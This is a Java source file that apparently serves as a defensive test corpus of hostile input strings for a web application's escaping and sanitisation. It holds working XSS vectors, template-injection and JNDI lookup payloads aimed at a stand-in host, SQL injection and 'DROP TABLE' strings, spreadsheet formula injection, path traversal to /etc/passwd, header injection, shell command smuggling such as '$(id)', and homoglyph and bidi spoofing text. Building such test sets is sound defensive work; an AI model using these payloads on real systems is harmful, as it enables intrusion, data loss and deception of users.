package org.readout.app.web;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/**
 * What somebody may put where words are expected, so that a page runs it, leads elsewhere, breaks,
 * or says what it does not say. Each begins with a word of its own, by which it is found.
 */
public final class HostileStrings {

  /** What the strings try to run. A page in which this is defined and called has lost. */
  public static final String CALL = "hostile(1)";

  /** What the strings try to fetch. */
  public static final String ELSEWHERE = "http://hostile.example/";

  private static final List<String> BREAKERS =
      List.of(
          "",
          "\">",
          "'>",
          "`>",
          "</title>",
          "</textarea>",
          "</script>",
          "</style>",
          "</q>",
          "-->",
          "]]>",
          "\"/>",
          "';",
          "\\\";",
          "*/",
          "\n\n",
          "&quot;>",
          "</p></div></main>");

  private static final List<String> ELEMENTS =
      List.of(
          "<script>%s</script>",
          "<SCRIPT SRC=%2$s></SCRIPT>",
          "<script src='data:text/javascript,%s'></script>",
          "<img src=x onerror=%s>",
          "<img src=\"%2$sa.png\">",
          "<svg onload=%s>",
          "<svg><script>%s</script></svg>",
          "<iframe srcdoc='<script>%s</script>'></iframe>",
          "<iframe src=\"javascript:%s\"></iframe>");

  private static final List<String> MORE_ELEMENTS =
      List.of(
          "<body onload=%s>",
          "<input autofocus onfocus=%s>",
          "<select autofocus onfocus=%s>",
          "<details open ontoggle=%s>",
          "<video><source onerror=%s></video>",
          "<audio src=x onerror=%s>",
          "<marquee onstart=%s>",
          "<object data=\"javascript:%s\"></object>",
          "<embed src=\"javascript:%s\">",
          "<math><mi xlink:href=\"javascript:%s\">x</mi></math>",
          "<math><mtext><table><mglyph><style><img src=x onerror=%s>",
          "<form action=\"javascript:%s\"><button>go</button></form>",
          "<button formaction=\"javascript:%s\">go</button>",
          "<base href=\"%2$s\">",
          "<meta http-equiv=refresh content=\"0;url=%2$s\">",
          "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
          "<link rel=stylesheet href=\"%2$s\">",
          "<link rel=prefetch href=\"%2$s\">",
          "<style>@import '%2$s';</style>",
          "<style>*{background:url(%2$s)}</style>",
          "<p style=\"background:url(%2$s)\">",
          "<div style=\"position:fixed;inset:0\">",
          "<a href=\"javascript:%s\">a</a>",
          "<a href=\"//hostile.example\">a</a>",
          "<svg><a xlink:href=\"javascript:%s\"><text>a</text></a></svg>",
          "<svg><animate onbegin=%s attributeName=x dur=1s>",
          "<svg><use href=\"data:image/svg+xml,%s\"></use></svg>",
          "<svg><foreignObject><img src=x onerror=%s></foreignObject></svg>",
          "<noscript><p title=\"</noscript><img src=x onerror=%s>\">",
          "<template><script>%s</script></template>",
          "<xmp><p title=\"</xmp><img src=x onerror=%s>\">",
          "<!--><img src=x onerror=%s>-->",
          "<![CDATA[<img src=x onerror=%s>]]>",
          "<?xml-stylesheet href=\"%2$s\"?>",
          "<img src=x\tonerror\n=\n%s>",
          "<img/src=x/onerror=%s>",
          "<scr<script>ipt>%s</script>",
          "<ſcript>%s</ſcript>",
          "＜script＞%s＜/script＞",
          "&lt;script&gt;%s&lt;/script&gt;",
          "&#60;script&#62;%s&#60;/script&#62;",
          "%%3Cscript%%3E%s%%3C/script%%3E",
          "\\u003cscript\\u003e%s\\u003c/script\\u003e",
          "\\x3cscript\\x3e%s");

  private static final List<String> ATTRIBUTES =
      List.of(
          "\" onmouseover=\"%s",
          "' onmouseover='%s",
          "` onmouseover=`%s",
          " onmouseover=%s ",
          "\" autofocus onfocus=\"%s",
          "' style='background:url(%2$s)",
          "\" href=\"javascript:%s",
          "\" srcdoc=\"<script>%s</script>",
          "x\"\tonclick\t=\t\"%s",
          "\"/onclick=\"%s",
          "&quot; onclick=&quot;%s",
          "&#34; onclick=&#34;%s",
          "\u00a0onclick=%s",
          "\u000conclick=%s");

  private static final List<String> ADDRESSES =
      List.of(
          "javascript:%s",
          "JaVaScRiPt:%s",
          " javascript:%s",
          "java\tscript:%s",
          "java\nscript:%s",
          "\u0001javascript:%s",
          "javascript&colon;%s",
          "&#106;avascript:%s",
          "javascript://x%%0a%s",
          "data:text/html,<script>%s</script>",
          "data:text/html;base64,PHNjcmlwdD4=",
          "data:image/svg+xml,<svg onload=%s>",
          "vbscript:%s",
          "view-source:%2$s",
          "blob:%2$s",
          "file:///etc/passwd",
          "//hostile.example/",
          "/\\hostile.example/",
          "\\\\hostile.example\\a",
          "%2$s",
          "https:hostile.example",
          "http://127.0.0.1@hostile.example/",
          "ftp://hostile.example/",
          "feed:javascript:%s",
          "mailto:a@b?subject=%s",
          "tel:%s",
          "about:blank#%s",
          "https://hostile.example/\" onclick=\"%s",
          "https://example.org/?q=<script>%s</script>");

  private static final List<String> TEMPLATES =
      List.of(
          "${%s}",
          "$unsafe{%s}",
          "!{%s;}",
          "@if(true)%s@endif",
          "@template.layout()",
          "@raw%s@endraw",
          "<%%= %s %%>",
          "<%% %s %%>",
          "#{%s}",
          "{{%s}}",
          "{{constructor.constructor('%s')()}}",
          "{%% %s %%}",
          "[[%s]]",
          "<#assign x=%s>",
          "*{%s}",
          "~{%s}",
          "${jndi:ldap://hostile.example/a}",
          "%%{%s}",
          "<c:out value='%s'/>",
          "#set($x='%s')",
          "`${%s}`",
          "%s%n",
          "%%s%%n%%d",
          "{0}",
          "\\${%s}");

  private static final List<String> BREAKERS_OF_FORMATS =
      List.of(
          "\"}],\"x\":[{\"",
          "\\",
          "\\\"",
          "\\u0000",
          "\\ud800",
          "{\"__proto__\":1}",
          "null",
          "\u2028\u2029",
          "=HYPERLINK(\"%2$s\")",
          "=cmd|' /C calc'!A0",
          "+1+1",
          "-1+1",
          "@SUM(1)",
          "\t=1",
          "\r=1",
          ",,\"\"\n",
          "';DROP TABLE documents;--",
          "' OR '1'='1",
          "%%' ESCAPE '\\",
          "x' UNION SELECT 1--",
          "\");--",
          "NEAR(a b)",
          "a AND",
          "\"",
          "*",
          "a*",
          "(",
          ")",
          "^a",
          "title:a",
          "a OR OR b",
          "- -",
          "{a b}",
          "a\"b\"c",
          "BEGIN:VEVENT",
          "\r\nATTENDEE:mailto:a@hostile.example",
          "\\n\\,\\;",
          "TY  - JOUR\r\nER  - ",
          "}@misc{a,url={%2$s}}",
          "\\input{/etc/passwd}",
          "[a](javascript:%s)",
          "![a](%2$sa.png)",
          "](%2$s)",
          "<%2$s>",
          "\r\nSet-Cookie: a=b",
          "\r\n\r\n<script>%s</script>",
          "\nLocation: %2$s",
          "../../../../etc/passwd",
          "..\\..\\windows",
          "%%2e%%2e%%2f",
          "CON",
          "a:b",
          "|id",
          "$(id)",
          "`id`",
          ";id");

  private static final List<String> UNICODE =
      List.of(
          "\u202Eevil\u202C",
          "\u202Dforced\u202C",
          "\u2066\u202Eisolated\u2069",
          "\u200Bzero\u200Bwidth",
          "a\u200Db\u200Cc",
          "\uFEFFmark",
          "soft\u00ADhyphen",
          "\u0430dmin",
          "\u0420aypal",
          "ＡＤＭＩＮ",
          "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
          "\uD83D\uDC69\u200D\uD83D\uDCBB",
          "\uD800",
          "\uDC00",
          "\uDBFF\uDFFF",
          "\uFFFE",
          "\uFFFF",
          "\uFFFD",
          "\u0085",
          "\u00A0",
          "\u3000",
          "\u0007\u001B[31mred",
          "\u0000",
          "\u001F\u007F",
          "مرحبا",
          "שלום",
          "\u0600\u0601",
          "İı",
          "ß",
          "ﬀ",
          "\uD835\uDCB6",
          "\u1D6A\u0E33",
          "\uE000",
          "\uDB40\uDC61tag",
          "\u2060\u2061",
          "北京<b>",
          "Ж\"Ж'");

  private HostileStrings() {}

  /** All of them, no two alike. */
  public static List<String> all() {
    Set<String> bodies = new LinkedHashSet<>();
    for (String breaker : BREAKERS) {
      ELEMENTS.forEach(element -> bodies.add(breaker + filled(element)));
    }
    List.of(MORE_ELEMENTS, ATTRIBUTES, ADDRESSES, TEMPLATES, BREAKERS_OF_FORMATS, UNICODE)
        .forEach(family -> family.forEach(each -> bodies.add(filled(each))));
    bodies.add("long ".repeat(2_000) + filled("<script>%s</script>"));
    bodies.add("<b>".repeat(1_500));
    bodies.add("x".repeat(6_000));
    bodies.add("\u0301".repeat(1_000));
    List<String> all = new ArrayList<>();
    for (String body : bodies) {
      // An address is one from its first character; the rest is found by a word in front.
      all.add(
          ADDRESSES.stream().map(HostileStrings::filled).anyMatch(body::equals)
              ? body
              : "hostile" + all.size() + " " + body);
    }
    return List.copyOf(all);
  }

  /** What the strings put in for what they try to run and fetch. */
  private static String filled(String form) {
    return form.replace("%2$s", ELSEWHERE)
        .replace("%s", CALL)
        .replace("%%", "%")
        .replace("%n", "\n");
  }
}
